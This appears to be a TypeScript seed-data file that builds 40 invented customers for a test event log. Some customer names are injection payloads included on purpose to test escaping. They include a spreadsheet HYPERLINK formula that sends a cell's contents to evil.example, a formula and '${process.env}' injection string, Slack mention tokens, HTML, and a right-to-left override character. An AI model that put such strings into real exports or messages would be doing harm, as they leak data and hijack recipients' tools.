import { at } from '../../shared/dates.js'
import type { CustomerCreated, DateText } from '../events.js'

/** Where the log begins: everything older is there already, without its orders. */
export const WORLD_BEGINS: DateText = '2025-01-20'

export interface SeedCustomer {
  readonly customerId: string
  readonly name: string
  readonly currency: string
  readonly countryCode: string
  readonly city: string
  /** First day of business with it. */
  readonly since: DateText
}

/** Two hundred characters: longer than any column somebody thought wide enough. */
const LONG_NAME = `${'The Honourable Company of Coopers, Chandlers, Ropemakers, Sailmakers and Shipwrights of the Northern Harbours '.padEnd(189, 'and Sons ')} (Holdings)`

/** Invented names; some are hostile on purpose to chat, spreadsheets and terminals. */
const UNITED_STATES = [
  'Contoso',
  'Alder & Finch Accounting',
  'Brightwater Dental Group',
  'Cobalt Ridge Engineering',
  'Dovetail Cabinet Works',
  '<!channel> Logistics',
  '=HYPERLINK("http://evil.example/?leak="&A1,"Invoice")',
  'Eastgate Veterinary Clinic',
  'Foxglove Interiors',
  '*Bold* & _Sons_ ~Roofing~ `LLC`',
  'Granite Peak Outfitters',
  'Hollis, Marsh & Webb; Attorneys',
  '<@U1> Consulting',
  'Ironbark Brewing Co.',
  'Juniper Hill School District',
  'Kestrel Aviation Services',
  'Tab\tSeparated\tPartners',
  'Larkspur Senior Living',
  'Meridian Freight Lines',
  '🚀 Rocket & Söhne 👩‍💻',
  'Nightingale Home Care',
  '+1 @SUM(A1:A9) ${process.env} Trading',
]
const EURO_ZONE = [
  'Oosterdijk Bloemen B.V.',
  'Pâtisserie du Vieux-Port',
  'Quintana & Hijos, S.L.',
  'Rheintal Maschinenbau GmbH',
  'Studio Legale Bianchi',
  'Tuulivoima Oy',
  LONG_NAME,
  'Umbria Ceramiche',
]
const UNITED_KINGDOM = [
  'Verity & Thorne Solicitors',
  'O\'Brien "The Builder" <b>LLP</b>',
  'Wexcombe Parish Council',
  'Yarrow Bank Farm Shops',
  'Zephyr Sailcloth',
  'שלום טכנולוגיות \u202Eevil',
]
const JAPAN = ['北星商事株式会社', 'Aozora Translation', 'Kaede Design Office', 'Minato Seafood Trading']

const CITIES: Readonly<Record<string, readonly [country: string, city: string]>> = {
  USD: ['US', 'Albany'],
  EUR: ['NL', 'Utrecht'],
  GBP: ['GB', 'Leeds'],
  JPY: ['JP', 'Osaka'],
}

/** Customers won while the log runs; the others were there before it began. */
const SINCE: Readonly<Record<string, DateText>> = {
  'Ironbark Brewing Co.': '2025-04-07',
  'Umbria Ceramiche': '2025-08-18',
  'Zephyr Sailcloth': '2025-11-03',
  'Minato Seafood Trading': '2026-01-15',
  'Nightingale Home Care': '2026-03-03',
}

/** The 40 customers: USD 22, EUR 8, GBP 6, JPY 4. */
export const CUSTOMERS: readonly SeedCustomer[] = [
  ...UNITED_STATES.map((name) => [name, 'USD'] as const),
  ...EURO_ZONE.map((name) => [name, 'EUR'] as const),
  ...UNITED_KINGDOM.map((name) => [name, 'GBP'] as const),
  ...JAPAN.map((name) => [name, 'JPY'] as const),
].map(([name, currency], index) => {
  const [countryCode, city] = CITIES[currency] ?? ['US', 'Albany']
  return {
    customerId: String(1_000_101 + index),
    name,
    currency,
    countryCode,
    city,
    since: SINCE[name] ?? WORLD_BEGINS,
  }
})

export function customerCreated(customer: SeedCustomer): Omit<CustomerCreated, 'sequence' | 'visibleFrom'> {
  return {
    type: 'customerCreated',
    at: at(customer.since, '12:00'),
    customerId: customer.customerId,
    name: customer.name,
    currency: customer.currency,
    countryCode: customer.countryCode,
    city: customer.city,
    externalId: Number(customer.customerId) % 3 === 0 ? `EXT-${customer.customerId}` : null,
    status: customer.name === 'Granite Peak Outfitters' ? 'creditHold' : 'active',
  }
}
